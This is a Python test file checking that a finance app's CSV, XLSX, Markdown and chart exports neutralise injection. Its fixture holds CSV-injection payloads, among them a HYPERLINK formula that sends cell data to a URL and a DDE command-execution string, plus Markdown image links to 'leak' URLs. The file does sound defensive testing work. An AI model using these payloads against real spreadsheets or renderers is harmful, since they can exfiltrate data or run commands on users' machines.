"""Exports and rendered text: formulas neutralised as OWASP recommends for CSV injection (read back
with Python's csv module and openpyxl), numbers kept as numbers, Markdown made inert the same way
whole or streamed, Plotly figures plain."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from finstream.tools.charts import ChartInput, build_figure
from finstream.tools.plain_figure import is_plain, plain_figure
from finstream.ui.exports import (
    chart_figure,
    conversation_markdown,
    neutralise,
    table_csv,
    table_xlsx,
)
from finstream.ui.inert import WJ, InertStream, md_escape, md_inert

HOSTILE = {
    "title": "=HYPERLINK(\"http://127.0.0.1:9/x?\"&A1,\"Report\")",
    "unit_note": "@SUM(A1:A9)",
    "columns": [{"name": "+Item"}, {"name": "Value", "format": "number"}, {"name": "Note"}],
    "rows": [
        ["=1+1", -12.5, "-3.2"],
        ["-2+3", 0.0, "+1+1"],
        ["@cmd", 7.0, "\tTAB"],
        ["\rCR", -0.5, "=cmd|' /C calc'!A0"],
        ["plain", 1e9, "https://example.com/x"],
    ],
    "sources": [{"document": "=evil.htm"}],
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(STARTS)


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay():
    rows = list(csv.reader(io.StringIO(table_csv(HOSTILE).decode())))
    header, body = rows[0], rows[1:]
    assert header == ["'+Item", "Value", "Note"]
    cells = [c for r in body for c in r]
    assert not any(_formula_like(c) and c != "-3.2" and not c.startswith("-") for c in cells)
    assert [r[0] for r in body] == ["'=1+1", "'-2+3", "'@cmd", "'\rCR", "plain"]
    assert [float(r[1]) for r in body] == [-12.5, 0.0, 7.0, -0.5, 1e9]  # numbers, negatives too
    assert body[0][2] == "-3.2" and body[1][2] == "'+1+1" and body[3][2].startswith("'=cmd")


def test_xlsx_has_no_formula_or_hyperlink_and_keeps_negative_numbers():
    wb = openpyxl.load_workbook(io.BytesIO(table_xlsx(HOSTILE)))
    ws = wb.active
    values = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in values)  # no formula cell at all
    assert all(c.hyperlink is None for c in values)
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert not any(_formula_like(t) and t != "-3.2" for t in texts), texts
    numbers = [c.value for c in values if isinstance(c.value, int | float)]
    assert -12.5 in numbers and -0.5 in numbers and 1e9 in numbers


@pytest.mark.parametrize("value, out", [("-12.5", "-12.5"), ("+3%", "+3%"), ("-1,234.5", "-1,234.5"),
                                         ("-", "'-"), ("-A1", "'-A1"), ("=A1", "'=A1"), (-4.0, -4.0)])
def test_neutralise_keeps_numbers_as_numbers(value, out):
    assert neutralise(value) == out


def test_md_inert_streamed_in_any_chunks_equals_whole():
    text = "See ![x](http://h/i.png) www.h.com https://h/x ceo@h.com $5 and $6 <b>b</b> **bold**"
    whole = md_inert(text)
    for size in range(1, 12):
        chunks = [text[i : i + size] for i in range(0, len(text), size)]
        assert "".join(InertStream().over(chunks)) == whole
    assert "**bold**" in whole  # emphasis stays
    assert "\\!\\[" not in whole and "!\\[x\\]" in whole and "\\$5" in whole
    assert f"https\\:{WJ}//" in whole and f"www{WJ}." in whole and f"ceo\\@{WJ}h" in whole


def test_md_escape_leaves_nothing_markdown_can_use():
    out = md_escape("# ![a](b) [c](d) <e> *f* _g_ `h` $i$ :red[j] k@l.com www.m.com")
    for ch in "#![]()<>*_`$":
        assert all(out[i - 1] == "\\" for i, c in enumerate(out) if c == ch), ch


def test_markdown_export_is_inert():
    class View:
        text = "Look ![x](http://127.0.0.1:9/leak.png) [l](http://127.0.0.1:9/l)"
        state = "complete"
        error = None
        artifacts = []
        checks = []
        message_id = "m1"

    md = conversation_markdown("T ![t](http://127.0.0.1:9/t.png)", [("user", "Q [q](http://127.0.0.1:9/q)"),
                                                                   ("assistant", View())]).decode()
    assert "](" not in md.replace("\\](", "")  # no link or image syntax survives unescaped
    assert "http://" not in md  # and no autolinkable URL


def test_chart_text_is_plain_at_the_builder_and_escaped_once():
    spec = ChartInput(title="<a href='http://x'>t</a> & co", chart_type="bar", x=["<b>FY</b>"],
                      series=[{"name": "<i>n</i>", "values": [1.0]}], y_label="<u>y</u>")
    fig = build_figure(spec)
    assert is_plain(fig)
    assert fig["layout"]["title"]["text"] == "&lt;a href='http://x'&gt;t&lt;/a&gt; &amp; co"
    assert fig["data"][0]["x"] == ["&lt;b&gt;FY&lt;/b&gt;"] and fig["data"][0]["name"] == "&lt;i&gt;n&lt;/i&gt;"
    assert fig["layout"]["yaxis"]["title"]["text"] == "&lt;u&gt;y&lt;/u&gt;"
    page = chart_figure({"figure": fig})
    assert page["layout"]["title"]["text"] == fig["layout"]["title"]["text"]  # not twice
    old = {"data": [{"type": "bar", "x": ["<a href='h'>x</a>"]}], "layout": {"title": {"text": "<b>t</b>"}}}
    assert chart_figure({"figure": old})["data"][0]["x"] == ["&lt;a href='h'&gt;x&lt;/a&gt;"]
    assert plain_figure(plain_figure(old)) == plain_figure(old)
